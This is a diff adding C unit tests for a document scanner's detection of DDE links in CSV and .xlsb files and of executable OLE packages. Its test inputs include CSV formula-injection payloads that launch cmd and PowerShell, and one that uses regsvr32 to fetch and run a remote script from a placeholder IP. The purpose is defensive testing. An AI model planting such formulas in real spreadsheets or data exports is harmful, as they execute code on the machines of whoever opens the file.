@@ -907,6 +907,54 @@ START_TEST(dde_fields)
 }
 END_TEST
 
+/* DDE in a CSV (msodde's case): only the SERVER|TOPIC!ITEM form of a
+ * formula cell is a link; ordinary formulas and '|' in text are not. */
+START_TEST(csv_dde)
+{
+	const char *const bad[] = {
+		"=cmd|' /C calc'!A0\r\n",
+		"name,amount\r\n\"item\",\"=MSEXCEL|'\\..\\..\\Windows\\System32"
+		    "\\regsvr32 /s /n /u /i:http://192.0.2.7/x.sct scrobj.dll'!''\""
+		    ",3\r\n",
+		"a;b\n1;@SUM(cmd|'/c calc'!A0)\n",
+		"x\t-2+3+cmd|'/c powershell -nop iex'!A1\tz\n",
+		"q|\"+cmd|'/c calc'!A0\"|r\n",
+		NULL };
+	const char *const good[] = {
+		"date,total,check\n2026-12-01,=SUM(B2:B9),=IF(B2>0;\"ok\";\"-\")\n",
+		"tel,note\n+81-3-1234|5678!,pipe|separated!text\n",
+		"id|name|price\n1|Widget!|=B2*2\n",
+		"=HYPERLINK(\"https://example.com/a|b!c\",\"x\")\n",
+		NULL };
+	const char *const want[] = { "\"OFFICE_DDE\"", "\"DDE: DDE ", NULL };
+	const char *const none[] = { "\"OFFICE_DDE\"", "\"DDE: ", NULL };
+	char *json;
+
+	for (size_t i = 0; bad[i] != NULL; i++) {
+		json = tu_scan_file_json(bad[i], strlen(bad[i]), "list.csv");
+		tu_want_in(json, want, true);
+		g_free(json);
+	}
+	for (size_t i = 0; good[i] != NULL; i++) {
+		json = tu_scan_file_json(good[i], strlen(good[i]), "list.csv");
+		tu_want_in(json, none, false);
+		g_free(json);
+	}
+	/* The same text in a file Excel does not open as a workbook. */
+	json = tu_scan_file_json(bad[0], strlen(bad[0]), "notes.txt");
+	tu_want_in(json, none, false);
+	g_free(json);
+	if ((json = scan_corpus("oletools-testdata/msodde/dde-in-csv.csv",
+	    "dde-in-csv.csv")) != NULL) {
+		const char *const w[] = { "\"OFFICE_DDE\"",
+			"Windows\\\\System32\\\\calc.exe", NULL };
+
+		tu_want_in(json, w, true);
+		g_free(json);
+	}
+}
+END_TEST
+
 /* A VBA project whose form holds the payload in a control's text. */
 START_TEST(userform_text)
 {
@@ -1047,6 +1095,38 @@ START_TEST(xlsb_formulas)
 		const char *const w[] = { "\"MACRO_AUTOEXEC\"",
 			"\"XLM formulas\",\"sha256\":\"a58292c4b26a1d33",
 			NULL };
+
+		tu_want_in(json, w, true);
+		g_free(json);
+	}
+}
+END_TEST
+
+/* The DDE link of an .xlsb: a BrtBeginSupBook of type DDE. */
+START_TEST(xlsb_dde_link)
+{
+	/* BrtBeginSupBook (360): sbt 1, "cmd", "/c calc"; then an external
+	 * workbook one (sbt 0) that is not a DDE link. */
+	static const uint8_t part[] = { 0xe8, 0x02, 0x1e, 0x01, 0x00,
+		0x03, 0, 0, 0, 'c', 0, 'm', 0, 'd', 0,
+		0x07, 0, 0, 0, '/', 0, 'c', 0, ' ', 0, 'c', 0, 'a', 0, 'l', 0,
+		'c', 0,
+		0xe8, 0x02, 0x0e, 0x00, 0x00, 0x02, 0, 0, 0, 'x', 0, '1', 0,
+		0xff, 0xff, 0xff, 0xff };
+	GPtrArray *out = g_ptr_array_new_with_free_func(g_free);
+	char *json;
+
+	ck_assert_uint_eq(emf_xlsb_dde_links(part, sizeof(part), out, 16), 1);
+	ck_assert_str_eq(g_ptr_array_index(out, 0), "DDE cmd /c calc");
+	for (size_t n = 0; n < sizeof(part); n++) {
+		g_ptr_array_set_size(out, 0);
+		ck_assert_uint_le(emf_xlsb_dde_links(part, n, out, 16), 1);
+	}
+	g_ptr_array_free(out, TRUE);
+	if ((json = scan_corpus("oletools-testdata/msodde/dde-test.xlsb",
+	    "x.xlsb")) != NULL) {
+		const char *const w[] = { "\"OFFICE_DDE\"",
+			"\"DDE: DDE cmd /c calc.exe\"", NULL };
 
 		tu_want_in(json, w, true);
 		g_free(json);
@@ -1229,8 +1309,11 @@ START_TEST(corpus_ole_packages)
 	/* A package that runs a command line (type 1, no file). */
 	if ((json = scan_corpus("oletools-testdata/oleobj/"
 	    "sample_with_lnk_to_calc.doc", "x.doc")) != NULL) {
+		/* No payload child to judge: the link itself is the
+		 * executable, as an embedded one would be. */
 		const char *const w[] = { "\"OFFICE_PACKAGE_EXECUTABLE\"",
-			"calc.exe (a link: runs it)", NULL };
+			"calc.exe (a link: runs it)", "\"EXECUTABLE_ATTACHMENT\"",
+			"\"action\":\"quarantine\"", NULL };
 
 		tu_want_in(json, w, true);
 		g_free(json);
@@ -1269,10 +1352,12 @@ office_suite(void)
 	tcase_add_test(tc, corpus_excel4_formulas);
 	tcase_add_test(tc, ooxml_external_links_and_schemes);
 	tcase_add_test(tc, dde_fields);
+	tcase_add_test(tc, csv_dde);
 	tcase_add_test(tc, corpus_ole_packages);
 	tcase_add_test(tc, userform_text);
 	tcase_add_test(tc, vba_stomped);
 	tcase_add_test(tc, xlsb_formulas);
+	tcase_add_test(tc, xlsb_dde_link);
 	tcase_add_test(tc, equation_objects);
 	tcase_add_test(tc, office_xml_single_file);
 	tcase_add_test(tc, corpus_dde_in_password_zips);
